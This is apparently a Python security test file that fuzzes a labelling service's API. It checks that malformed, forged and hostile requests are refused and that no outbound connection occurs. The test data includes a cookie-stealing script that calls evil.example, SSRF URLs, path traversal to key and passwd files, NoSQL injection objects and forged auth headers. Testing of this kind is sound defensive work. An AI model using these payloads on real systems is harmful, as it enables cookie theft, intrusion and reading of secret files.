"""Five hundred malformed answers, uploads and requests against the labelling service, over the wire: each is refused
clearly, none leaves anything in the log, nothing good is lost meanwhile, and no request leaves."""

import base64
import json
import random
import socket
import threading

import pytest

from connectors.images import MAX_BYTES
from tests.serving.labelling.project import PAIR, PASSWORD, Hands, desk, png, served
from tidemill.label_events import AnswerGiven, LabelAsked, LabelSchema
from tidemill.time import SECOND

AT = "/api/projects/pets"
REFUSED = {400, 401, 403, 404, 405, 409, 413, 415, 422}
SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"
IMAGES = LabelSchema(kind="boxes", medium="image", classes=PAIR.classes)


@pytest.fixture
def inside():
    """The address of something that must not be asked, and who has."""
    asked, listener = [], socket.create_server(("127.0.0.1", 0))

    def accept():
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            asked.append(connection.recv(100))
            connection.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield f"127.0.0.1:{listener.getsockname()[1]}", asked
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    thread.join(10)


def nested(depth):
    return "[" * depth + "]" * depth


def bodies(rng, good):
    """A body of JSON that is not quite what a route takes, as bytes."""
    kind, text = rng.randrange(12), json.dumps(good)
    if kind == 0:
        return text[: rng.randrange(1, len(text))].encode()
    if kind == 1:
        return nested(rng.choice((1000, 100_000))).encode()
    if kind == 2:
        return b'{"lease": "' + bytes(rng.randrange(128, 256) for _ in range(9)) + b'"}'
    if kind == 3:
        return rng.choice((b"", b"null", b"[]", b"3", b'"x"', b"\x00", b"NaN", b"{} {}"))
    name = rng.choice([*good])
    if kind == 4:
        return json.dumps(
            {k: v for k, v in good.items() if k not in ("lease", "items", "item", "answer", "code")}
        ).encode()
    if kind == 5:
        return json.dumps({**good, "by": "boss", "role": "manager"}).encode()
    if kind == 6:
        return json.dumps({**good, rng.choice(("lease", "items", "answer", "item")): {"$ne": None}}).encode()
    if kind == 7:
        return text.replace(json.dumps(good[name]), "NaN", 1).encode()
    if kind == 8:
        return text.replace(json.dumps(good[name]), "1" * 5000, 1).encode()
    if kind == 9:
        return json.dumps({**good, name: json.loads(nested(50))}).encode()
    if kind == 10:
        return ("\ufeff" + text).encode()
    return json.dumps([good] * 3).encode()


def values(rng):
    """What can be no boxes in an image of 9 x 7."""
    return rng.choice(
        [
            "cat", None, 3, {}, [["cat"]], [["cat", 0, 0, 10, 7]], [["cat", -1, 0, 2, 2]], [["cow", 0, 0, 1, 1]],
            [[SCRIPT, 0, 0, 1, 1]], [["cat", "0", "0", "1", "1"]], [["cat", 0, 0, 1e308, 1e308]], [["cat", 0, 0, 0, 0]],
            [["cat", 0, 0, 1, 1]] * 501, [["__proto__", 0, 0, 1, 1]], [[None] * 5], [[["cat"], 0, 0, 1, 1]],
        ]
    )  # fmt: skip


def uploads(rng, inside):
    """An item that cannot be taken."""
    place = rng.choice(["http://", "https://", "ftp://", "gopher://", "//", "file://", "s3://"]) + inside + "/a.png"
    encoded = lambda data: base64.b64encode(data).decode()  # noqa: E731
    return rng.choice(
        [
            {"media": place}, {"digest": place}, {"media": encoded(place.encode())}, {"digest": "../../keys/key.pem"},
            {"media": "data:image/png;base64," + encoded(png())}, {"media": encoded(png(30_000, 30_000, b""))},
            {"media": encoded(f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{place}'/></svg>".encode())},
            {"media": encoded(SCRIPT.encode())}, {"media": encoded(b"GIF89a" + b"\0" * 99)},
            {"media": encoded(png()[:40])}, {"media": encoded(b"\x89PNG\r\n\x1a\n" + SCRIPT.encode() * 9)},
            {"media": encoded(b"\xff\xd8\xff\xe0" + SCRIPT.encode())}, {"media": encoded(b"PK\3\4" + b"\0" * 99)},
            {"media": encoded(b"\x1f\x8b" + b"\0" * 99)}, {"media": encoded(b"RIFF\0\0\0\0WAVE")},
            {"media": encoded(png()), "id": "a" * 5000}, {"media": encoded(png()), "gold": SCRIPT},
            {"media": encoded(png()), "media_type": "text/html"}, {"media": encoded(png()), "payload": [1]},
            {"media": encoded(png()), "url": place}, {"media": encoded(png()), "prelabel": {"value": place}},
            {"media": encoded(png()), "priority": 1e300}, {"media": encoded(png()), "group": {"a": 1}},
            {"media": encoded(png()) + "=="}, {"media": ""}, {"text": place}, {"event": True}, 7, None, "x",
        ]
    )  # fmt: skip


def attack(rng, number, callers, leases, inside):
    """One of them: an answer of the server."""
    ann, boss = callers["ann"].http, callers["boss"].http
    answer = {"lease": leases["ann"], "value": [["cat", 0, 0, 2, 2]], "seconds": 1.0}
    json_type = {"content-type": "application/json"}
    kind = number % 10
    if kind < 2:
        route, body = rng.choice(
            [("answers", bodies(rng, answer)), ("skip", bodies(rng, {"lease": leases["ann"], "reason": ""})),
             ("reviews", bodies(rng, {"item": "i0", "value": [], "note": ""}))]
        )  # fmt: skip
        who = callers["rev"].http if route == "reviews" else ann
        return who.post(f"{AT}/{route}", content=body, headers=json_type)
    if kind == 2:
        return ann.post(f"{AT}/answers", json={**answer, "value": values(rng)})
    if kind == 3:
        lease = rng.choice(
            [leases["bob"], leases["expired"], "", "x" * 9000, "../" + leases["ann"], leases["ann"] + "\0"]
        )
        verb = rng.choice(["answers", "drafts", "skip"])
        return ann.post(f"{AT}/{verb}", json={"lease": lease, **({} if verb == "skip" else {"value": []})})
    if kind == 4:
        return ann.post(f"{AT}/answers", json={"lease": leases["done"], "value": [["dog", 0, 0, 1, 1]]})
    if kind < 7:
        item = uploads(rng, inside)
        good = {"id": f"good-{number}", "media": base64.b64encode(png()).decode()}
        return boss.post(f"{AT}/items", json={"items": [good, item]})
    if kind == 7:
        name, body = rng.choice([("items", {"items": []}), ("settings", {"lease": -1}), ("settings", {"rules": [1]})])
        who = rng.choice([ann, callers["rev"].http])
        return who.post(f"{AT}/{name}", json=body)
    if kind == 8:
        forged = rng.choice(
            [{"authorization": "Bearer tml_forged"}, {"authorization": "Bearer " + "x" * 5000},
             {"cookie": "tidemill-labelling=boss"},
             {"x-forwarded-user": "boss", "x-real-ip": "127.0.0.1"}, {"authorization": "Basic Ym9zczpib3Nz"}]
        )  # fmt: skip
        return callers["nobody"].http.post(f"{AT}/answers", json=answer, headers=forged)
    path = rng.choice(
        [AT + "/media/" + "0" * 64, AT + "/media/..%2f..%2fkeys%2flabelling.json", "/static/..%2f__init__.py",
         "/static/%2fetc%2fpasswd", "/api/projects/..%2fother", AT + "/media/" + leases["foreign"],
         "/static/x.html%00.js"]
    )  # fmt: skip
    return ann.get(path)


def test_five_hundred_malformed_requests_are_refused_and_nothing_good_is_lost(tmp_path, inside):
    rng, clock = random.Random(8), Hands()
    place, connected = inside
    with desk(tmp_path, clock=clock) as made, served(made) as caller:
        callers = {"nobody": caller(), **{who: caller(made.account(who)) for who in ("boss", "ann", "bob", "rev")}}
        made.project(schema=IMAGES, overlap=(2, 2), lease=60.0)
        made.project("other", by="boss", schema=IMAGES)
        made.member("pets", "ann")
        made.member("pets", "bob")
        made.member("pets", "rev", "reviewer")
        picture = base64.b64encode(png(9, 7)).decode()
        items = [
            {"id": f"i{n}", "media": picture, "payload": {SCRIPT: SCRIPT, "url": f"http://{place}/"}} for n in range(60)
        ]
        callers["boss"].post(f"{AT}/items", {"items": items})
        foreign = base64.b64encode(png(8, 8)).decode()
        callers["boss"].post("/api/projects/other/items", {"items": [{"media": foreign}]})
        (foreign_digest,) = [e.media for e in made.kept("other", LabelAsked)]

        old, done = (t["lease"] for t in callers["ann"].post(f"{AT}/next", {"count": 2})["tasks"])
        callers["ann"].post(f"{AT}/answers", {"lease": done, "value": [["cat", 0, 0, 1, 1]]})
        clock.at += 61 * SECOND
        mine = callers["ann"].post(f"{AT}/next", {"count": 1})["tasks"][0]
        leases = {
            "ann": mine["lease"], "bob": callers["bob"].post(f"{AT}/next", {})["tasks"][0]["lease"],
            "expired": old, "done": done, "foreign": foreign_digest,
        }  # fmt: skip

        before, given, seen = len(made.kept("pets")), {done}, set()
        for number in range(500):
            answer = attack(rng, number, callers, leases, place)
            assert answer.status_code in REFUSED, (
                number,
                answer.status_code,
                answer.request.content[:200],
                answer.text,
            )
            seen.add(answer.status_code)
            told = answer.json()
            assert told["error"] and len(answer.text) < 2000, number
            assert str(tmp_path) not in answer.text, number
            assert answer.headers["content-type"] == "application/json"
            if number % 50 == 0:  # a good one in between
                good = callers["bob"].post(f"{AT}/next", {"count": 2})["tasks"][1]
                callers["bob"].post(f"{AT}/answers", {"lease": good["lease"], "value": [["dog", 1, 1, 3, 3]]})
                given.add(good["lease"])
                before += 2
        assert len(made.kept("pets")) == before
        assert {e.id for e in made.kept("pets", AnswerGiven)} == given
        assert connected == [] and seen >= {400, 401, 403, 404, 409}

        # What is data stays data: as it came, as JSON that no browser takes for anything else.
        page = callers["ann"].http.post(f"{AT}/next", json={"count": 1})
        assert page.json()["tasks"][0]["payload"][SCRIPT] == SCRIPT
        assert page.headers["x-content-type-options"] == "nosniff"
        answer = {"lease": leases["ann"], "value": [["cat", 0, 0, 2, 2]], "seconds": 1.0}
        callers["ann"].post(f"{AT}/answers", answer)


def test_what_is_too_large_is_refused_before_it_is_read(tmp_path):
    with desk(tmp_path) as made, served(made) as caller:
        boss = caller(made.account("boss"))
        made.project(schema=IMAGES)
        large = b'{"items": [{"media": "' + b"A" * (MAX_BYTES * 2) + b'"}]}'
        sent = boss.http.post(f"{AT}/items", content=large, headers={"content-type": "application/json"})
        assert sent.status_code == 413
        many = [{"id": f"i{n}", "media": base64.b64encode(png(5000, 5000)).decode()} for n in range(9)]
        told = boss.http.post(f"{AT}/items", json={"items": many})
        assert told.status_code == 413 and "pixels at once" in told.json()["error"]


def test_what_an_event_calls_an_image_is_handed_out_as_what_it_is(tmp_path):
    """Another program, or a mistaken job, may have put anything into the log."""
    with desk(tmp_path) as made, served(made) as caller:
        boss = caller(made.account("boss"))
        made.project(schema=IMAGES)
        for name, data in (
            ("svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
            ("html", SCRIPT.encode()),
        ):
            digest = made.objects.put(data)
            made.service.record(
                "pets", LabelAsked(id="", time=0, about=name, media=digest, media_type="text/html; charset=utf-8")
            )
            answer = boss.http.get(f"{AT}/media/{digest}")
            assert answer.headers["content-type"] == "application/octet-stream"
            assert answer.headers["content-disposition"] == "attachment"
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
        missing = "http://127.0.0.1:1/x.png"
        made.service.record("pets", LabelAsked(id="", time=0, about="url", media=missing, media_type="image/png"))
        assert boss.http.get(f"{AT}/media/" + missing.replace("/", "%2f")).status_code in (404, 422)


def test_a_login_that_is_none(tmp_path):
    with desk(tmp_path) as made, served(made) as caller:
        made.project()
        made.account("ann")
        nobody = caller()
        for body in (
            {"name": ["ann"], "password": PASSWORD},
            {"name": "ann"},
            {"name": "ann", "password": {"$gt": ""}},
        ):
            nobody.post("/api/login", body, 400)
        nobody.get(AT, 401)
